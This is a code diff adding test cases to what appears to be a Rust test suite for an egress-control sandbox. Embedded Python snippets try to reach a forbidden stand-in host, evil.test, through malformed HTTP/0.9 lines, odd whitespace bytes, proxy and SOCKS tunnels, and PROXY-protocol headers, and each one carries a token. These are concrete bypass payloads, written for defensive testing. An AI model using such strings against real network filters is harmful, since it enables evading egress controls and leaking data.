@@ -128,6 +128,33 @@ const REQUESTS: &[(&str, &str, &str)] = &[
         "a request for another host whose first bytes look like nothing",
         r"b'QWERTYUIOP /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
     ),
+    ("09-lower-case", "an old request in small letters", r"b'get http://evil.test/{token}\r\n\r\n'"),
+    ("09-tab", "an old request with a tab", r"b'GET\thttp://evil.test/{token}\r\n\r\n'"),
+    ("09-spaces", "an old request with more spaces", r"b'\r\n GET   HTTP://evil.test/{token} \r\n\r\n'"),
+    ("09-slashes", "an old request without a scheme", r"b'GET //evil.test/{token}\r\n\r\n'"),
+    ("09-one-slash", "an old request with half an address", r"b'GET http:evil.test/{token}\r\n\r\n'"),
+    ("09-host", "an old request with a newer one's host", r"b'GET /{token}\r\nHost: evil.test\r\n\r\n'"),
+    (
+        "09-star",
+        "an old request for the whole server",
+        r"b'OPTIONS *\r\nHost: evil.test\r\nX: {token}\r\n\r\n'",
+    ),
+    ("09-connect", "a CONNECT without a version", r"b'CONNECT evil.test:443\r\nX: {token}\r\n\r\n'"),
+    (
+        "09-other-version",
+        "a request in the version of another protocol",
+        r"b'GET rtsp://evil.test/{token} RTSP/1.0\r\nHost: evil.test\r\n\r\n'",
+    ),
+    (
+        "latin-blanks",
+        "a request for another host with the blanks of Latin-1, as Python's server takes it",
+        r"b'\xa0GET\x85/{token}\xa0HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
+    ),
+    (
+        "proxy-line",
+        "a line of the PROXY protocol before a request for another host",
+        r"b'PROXY TCP4 192.0.2.1 192.0.2.10 1000 80\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
+    ),
 ];
 
 pub(crate) fn rows() -> Vec<Row> {
@@ -150,6 +177,7 @@ pub(crate) fn rows() -> Vec<Row> {
         })
         .collect();
     rows.extend(http2());
+    rows.extend(without_version());
     rows.push(behind_a_large_answer());
     rows.extend(responses());
     rows.extend(proxy());
@@ -174,6 +202,67 @@ fn http2() -> Vec<Row> {
             .unheard()
             .row(),
     ]
+}
+
+/// HTTP/0.9: a line without a version, which nginx answers. One with an address in it names its host there.
+fn without_version() -> Vec<Row> {
+    const REQUEST: &str = r"b'GET http://evil.test/{token}\r\n'";
+    const JUDGE: &str = "\nif b'page of evil.test' in got: escaped('the page came')\nheld(repr(got[:300]))";
+    vec![
+        attempt("http09-absolute", "asks for another host's page in a line without a version")
+            .grant(["good.test:80"])
+            .python(&format!("got = say('good.test', 80, {REQUEST}){JUDGE}"))
+            .denied("good.test")
+            .unheard()
+            .row(),
+        attempt("http09-absolute-pieces", "the same, byte by byte")
+            .grant(["good.test:80"])
+            .python(&format!(
+                "stream = dial('good.test', 80)\n\
+                 stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n\
+                 for byte in {REQUEST}:\n    stream.sendall(bytes([byte])); time.sleep(0.001)\n\
+                 got = read(stream){JUDGE}"
+            ))
+            .denied("good.test")
+            .unheard()
+            .row(),
+        attempt("http09-tunnel", "the same within a tunnel to a granted host")
+            .grant(["good.test:80"])
+            .python(&format!(
+                "stream, _ = connect_through('{{http_proxy}}', 'good.test:80')\n\
+                 stream.sendall({REQUEST})\ngot = read(stream){JUDGE}"
+            ))
+            .denied("good.test")
+            .unheard()
+            .row(),
+        attempt("http09-socks", "the same within a SOCKS tunnel to a granted host")
+            .grant(["good.test:80"])
+            .python(&format!(
+                "stream = socks_through('{{socks_proxy}}', 'good.test', 80)\n\
+                 stream.sendall({REQUEST})\ngot = read(stream){JUDGE}"
+            ))
+            .denied("good.test")
+            .unheard()
+            .row(),
+        proxy_protocol("proxy-protocol", r"b'PROXY TCP4 192.0.2.1 192.0.2.10 1000 8083\r\n'"),
+        proxy_protocol(
+            "proxy-protocol-binary",
+            r"b'\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c' + bytes(8) + b'\x10\x00\x20\x00'",
+        ),
+    ]
+}
+
+/// A server behind a balancer believes what comes first to be the balancer's word on who speaks, and reads on.
+fn proxy_protocol(name: &str, header: &str) -> Row {
+    attempt(name, "puts a header of the PROXY protocol before a request for another host")
+        .grant(["good.test:8083"])
+        .python(&format!(
+            "got = say('good.test', 8083, {header} + b'GET /{{token}} HTTP/1.0\\r\\nHost: evil.test\\r\\n\\r\\n')\n\
+             if b'page of evil.test' in got: escaped('the page came')\nheld(repr(got[:300]))"
+        ))
+        .denied("good.test")
+        .unheard()
+        .row()
 }
 
 /// Egress gives a connection away once the head of a large answer is through, and looks at no request behind it.
